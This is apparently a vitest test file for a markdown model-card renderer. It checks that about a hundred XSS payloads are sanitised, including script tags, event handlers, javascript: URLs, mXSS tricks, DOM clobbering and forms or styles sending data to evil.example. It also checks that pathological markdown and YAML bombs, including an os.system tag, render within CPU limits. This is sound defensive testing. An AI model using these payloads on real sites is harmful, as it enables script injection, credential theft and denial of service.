import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { measureCpuTime } from "./testing/cpu-time.ts";
import { findProblems } from "./testing/inspect-html.ts";
import { parseCard } from "@modelyard/contract/front-matter";
import { type Outcome, toOutcome, websiteJob } from "../../server/http/documents/website-jobs.ts";
import { findProgram } from "../../server/testing/find-program.ts";
import { WorkerPool } from "../../server/http/workers/worker-pool.ts";
import { place } from "./documents.server.ts";
import type { RenderedDocument } from "./render.server.ts";
import { renderCard } from "./testing/render.ts";

const render = (markdown: string) => renderCard(markdown, { id: "owner/name" });

/** Known attempts to run code, load styles, shadow names, or escape the card. */
const ATTACKS = [
  // Script, plain and disguised.
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script/x>alert(1)</script>",
  "<script\n>alert(1)\n</script\n>",
  "<<script>alert(1)//<</script>",
  "</p><script>alert(1)</script><p>",
  "<script>\n\nalert(1)\n\n</script>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  '<xmp><p title="</xmp><script>alert(1)</script>">',
  "<plaintext><script>alert(1)</script>",
  '<noembed><img title="</noembed><script>alert(1)</script>"></noembed>',
  '<title><img title="</title><script>alert(1)</script>">',
  '<textarea><img title="</textarea><script>alert(1)</script>">',
  // Event handlers.
  "<img src=x onerror=alert(1)>",
  "<img src=x oNeRrOr=alert(1)>",
  "<img/src='x'/onerror=alert(1)>",
  "<img src=`x`onerror=alert(1)>",
  "<img src=x\tonerror\n=\nalert(1)>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video src=x onloadstart=alert(1) autoplay><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)><option>x</select>",
  "<p onpointerenter=alert(1) onanimationstart=alert(1) style=animation:x>x</p>",
  "<a href=/ onclick=alert(1) onmouseover=alert(1)>x</a>",
  "<b/onbeforetoggle=alert(1) popover>x</b>",
  // URLs that run code.
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x]( javascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](data:image/svg+xml,<svg onload=alert(1)>)",
  "[x](blob:https://evil.example/1) [y](filesystem:http://a/b) [z](file:///etc/passwd)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#9;javascript:alert(1)">x</a>',
  '<a href="jav&NewLine;ascript&colon;alert(1)">x</a>',
  "<a href='javascript://example.com/%0aalert(1)'>x</a>",
  '<a href="//evil.example\\@hub">x</a> <a href="\\\\evil.example">y</a> <a href="/\\evil.example">z</a>',
  '<a xlink:href="javascript:alert(1)" ping="https://evil.example">x</a>',
  "![x](javascript:alert(1)) ![y](data:text/html,<script>alert(1)</script>)",
  '<img src="data:text/html,x" srcset="javascript:alert(1) 1x" lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>',
  "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+>",
  '<picture><source srcset="javascript:alert(1), x.png 2x, data:text/html,1 3x"><img src=x></picture>',
  "<video poster=javascript:alert(1) src=javascript:alert(1)><source src=data:text/html,1></video>",
  '<blockquote cite="javascript:alert(1)">x</blockquote><q cite=javascript:alert(1)>x</q>',
  "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
  // Other documents and plugins.
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)><param name=movie value=x><embed src=javascript:alert(1)></object>",
  "<embed src=data:text/html,x><applet code=x></applet><frameset><frame src=javascript:alert(1)></frameset>",
  "<base href=https://evil.example/><base target=_blank>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv=Content-Security-Policy content="default-src *">',
  "<link rel=stylesheet href=https://evil.example/x.css><link rel=import href=x><link rel=prefetch href=x>",
  "<portal src=https://evil.example></portal><fencedframe></fencedframe>",
  // Forms.
  "<form action=https://evil.example><input name=password type=password><button formaction=javascript:alert(1)>Sign in</button></form>",
  "<input type=image src=x formaction=javascript:alert(1)><input type=file><input type=hidden name=csrf>",
  "<isindex type=image src=1 onerror=alert(1)><keygen autofocus onfocus=alert(1)>",
  // Style.
  "<style>body{display:none}input[value^=a]{background:url(https://evil.example/a)}</style>",
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
  '<div style="width:expression(alert(1));text-align:center">x</div>',
  '<p class="bar brand fixed inset-0" id=app>x</p>',
  "<font style='background:\\75rl(https://evil.example)' color=red face=x>x</font>",
  // Foreign namespaces and markup that changes when it is parsed again.
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=href values=javascript:alert(1)>",
  "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
  '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
  "<math><mi xlink:href=javascript:alert(1)>x</mi><maction actiontype=statusline#https://evil.example>x</maction></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<a><marquee><a href=/><marquee><table><a href=javascript:alert(1)>x",
  "<table><tr><td><form></table></form><img src=x onerror=alert(1)>",
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
  "<p><svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></p>",
  // Comments that are not closed, or not where they seem.
  "<!-- <img src=x onerror=alert(1)>",
  "<!--> <img src=x onerror=alert(1)> -->",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<!doctype html [<!entity x 'y'>]><?xml-stylesheet href=javascript:alert(1)?>",
  // Names that shadow the page's.
  "<a name=getElementById id=location>x</a><img name=cookie id=body><form id=forms name=forms>",
  '<a id="card-x" name=card-x></a><h2 id=main>x</h2><p id=\'"><script>\'>x</p>',
  "# constructor\n\n# __proto__\n\n# toString\n\n[^__proto__]\n\n[^__proto__]: x",
  // Markdown's own corners.
  '[x](<javascript:alert(1)> "title")',
  '!["onerror="alert(1)](x)',
  '[a](x "\\"onmouseover=alert(1)")',
  '```"><script>alert(1)</script>\ncode</code></pre><script>alert(1)</script>\n```',
  "`</code><script>alert(1)</script>`",
  '~~~python onload=alert(1) class="x\n</pre><img src=x onerror=alert(1)>\n~~~',
  "$$\\href{javascript:alert(1)}{x}\\htmlStyle{color:red}{x}\\includegraphics{javascript:alert(1)}$$",
  "$$\\text{</annotation></semantics></math><script>alert(1)</script>}$$",
  "\\\\(\\url{javascript:alert(1)}\\class{x}{y}\\data{x=1}{y}\\\\)",
  "<Gallery onload=alert(1) /><card-gallery onclick=alert(1)>",
  '<p title="$$</p><script>alert(1)</script>$$">x</p>',
  "\uFDD00\uFDD1 \uFDD0999\uFDD1 $$x$$ \uFDD00\uFDD1",
  "---\nwidget:\n- output: {url: 'javascript:alert(1)'}\n  text: '<script>alert(1)</script>'\n- output: {url: 'x.png\" onerror=\"alert(1)'}\n---\n<Gallery />",
];

test(`there are at least sixty attacks (${ATTACKS.length})`, () => {
  expect(new Set(ATTACKS).size).toBe(ATTACKS.length);
  expect(ATTACKS.length).toBeGreaterThanOrEqual(60);
});

test("the inspection finds the problems of unrendered attacks", () => {
  const harmless = ATTACKS.filter((attack) => attack.startsWith("<") && findProblems(attack).length === 0);
  // On their own, these are harmless: the parser drops a body, and an image and a title do nothing.
  expect(harmless.map((attack) => attack.slice(0, 6))).toEqual(["<body ", "<img s", "<p tit"]);
});

describe("removes attacks", () => {
  test.each(ATTACKS)("%j", async (attack) => {
    for (const markdown of [
      attack,
      `> ${attack}`,
      `- x\n  ${attack}`,
      `**${attack}**`,
      `| a |\n|--|\n| ${attack} |`,
      `<div>${attack}`,
    ]) {
      const { html, notice } = await render(markdown);
      expect(findProblems(html), html).toEqual([]);
      expect(notice).toBeUndefined();
    }
  });
});

describe("renders slow cards in a process within the limit of CPU time", () => {
  const pool = new WorkerPool(2);
  // A third of the usual limit, as many of these cards use all of it.
  const module = pathToFileURL(findProgram("web/worker.ts"));
  const job = { ...websiteJob("renderCard"), module, cpuMs: 1_000 };
  beforeAll(() => void vi.spyOn(console, "warn").mockImplementation(() => {}));
  afterAll(() => void vi.restoreAllMocks());

  const slow: [string, string][] = [
    ["a line of 10 MB", "x".repeat(10_000_000)],
    ["a line of a million brackets", "[".repeat(1_000_000)],
    ["links in links", "[a](".repeat(50_000)],
    ["emphasis that never closes", "**a *b ".repeat(50_000)],
    ["stars", "*".repeat(200_000)],
    ["back ticks of every length", Array.from({ length: 900 }, (_, i) => "`".repeat(i + 1)).join(" ")],
    ["block quotes 5,000 deep", `${">".repeat(5_000)} x`],
    ["lists 2,000 deep", Array.from({ length: 2_000 }, (_, i) => `${" ".repeat(i * 2)}- x`).join("\n")],
    ["elements 20,000 deep", "<div>".repeat(20_000)],
    ["inline elements 20,000 deep", `x ${"<b>".repeat(20_000)}`],
    [
      "a table of 2,000 by 200",
      `|${"a|".repeat(200)}\n|${"-|".repeat(200)}\n${`|${"x|".repeat(200)}\n`.repeat(2_000)}`,
    ],
    [
      "formatting elements that are closed in the wrong order",
      "<a><b><i><u><font>".repeat(3_000) + "</a></p><p>".repeat(3_000),
    ],
    ["tags that never close", "<a ".repeat(100_000)],
    ["comments that never close", "x\n\n" + "<!-- ".repeat(100_000)],
    ["autolinks", "www.a.b/(".repeat(50_000)],
    ["email addresses", "a@".repeat(100_000)],
    [
      "footnotes that refer to each other",
      "x[^0]\n\n" + Array.from({ length: 5_000 }, (_, i) => `[^${i}]: [^${i + 1}]`).join("\n"),
    ],
    ["definitions", "[a]: b\n".repeat(50_000)],
    ["formulas that grow", `$$\\def\\a{xxxxxxxxxx}${"\\def\\b{\\a\\a\\a}\\b".repeat(100)}$$`],
    ["3,000 formulas", "$$\\frac{a}{b}$$ ".repeat(3_000)],
    ["a formula nested 5,000 deep", `$$${"{".repeat(2_000)}x${"}".repeat(2_000)}$$`],
    ["dollars", "$a ".repeat(300_000)],
    ["slashes and parentheses", "\\\\(".repeat(300_000)],
    ["a code block of 900 kB", `\`\`\`python\n${"f('x', [1, {2: 3}])\n".repeat(45_000)}\`\`\``],
    ["4,000 code blocks", "```python\nx = 1\n```\n".repeat(4_000)],
    ["entities", "&#x26;".repeat(50_000)],
    ["a style of a million spaces", `<p style="text-align:${" ".repeat(900_000)}">x</p>`],
    [
      "a srcset of 100,000",
      `<img srcset="${"a.png 1x, ".repeat(90_000)}"><picture><source srcset="${"a, ".repeat(90_000)}"></picture>`,
    ],
    ["white space before metadata", `${" \n".repeat(400_000)}x`],
    ["metadata that never ends", `---\n${"a: b\n".repeat(150_000)}`],
    ["control characters", "\0\u0007\u001b[31m".repeat(50_000)],
  ];
  test.each(slow)("%s", async (_, markdown) => {
    let outcome: Outcome<RenderedDocument> | undefined;
    const run = async () => (outcome = await toOutcome(pool.run(job, markdown, { group: "owner/name" })));
    // Of this process, which only sends the text.
    expect(await measureCpuTime(run)).toBeLessThan(500);
    const { html } = place(outcome ?? { problem: "busy" }, markdown, "card", { id: "a/b", prefix: "card-" });
    expect(findProblems(html)).toEqual([]);
    expect(html.length).toBeGreaterThan(0);
    expect(html.length).toBeLessThan(20_000_000);
  });
});

describe("survives hostile metadata", () => {
  const bomb = `a0: &a0 [x,x,x,x,x,x,x,x,x]\n${Array.from({ length: 12 }, (_, i) => `a${i + 1}: &a${i + 1} [${Array(9).fill(`*a${i}`).join(",")}]`).join("\n")}`;
  const hostile: [string, string][] = [
    ["aliases that multiply", bomb],
    ["nested 20,000 deep", "a: ".concat("[".repeat(20_000))],
    ["a megabyte", `a: ${"x".repeat(1_000_000)}`],
    ["an alias of itself", "a: &a [*a]"],
    ["an unknown tag", "a: !!python/object/apply:os.system ['id']\nb: !!js/function 'x'"],
    ["a list", "- a\n- b"],
    ["two keys of one name", "a: 1\na: 2"],
    ["tabs", "a:\n\t- b"],
  ];
  test.each(hostile)("%s", async (_, yaml) => {
    const card = `---\n${yaml}\n---\n# Text`;
    expect(await measureCpuTime(() => render(card))).toBeLessThan(2_000);
    expect((await render(card)).html).toContain("Text");
  });

  test("a key named __proto__ is an ordinary key", async () => {
    const { facts } = parseCard("---\n__proto__:\n  polluted: yes\nconstructor: x\n---\n");
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    expect(Object.getPrototypeOf(facts)).toBe(Object.prototype);
  });
});
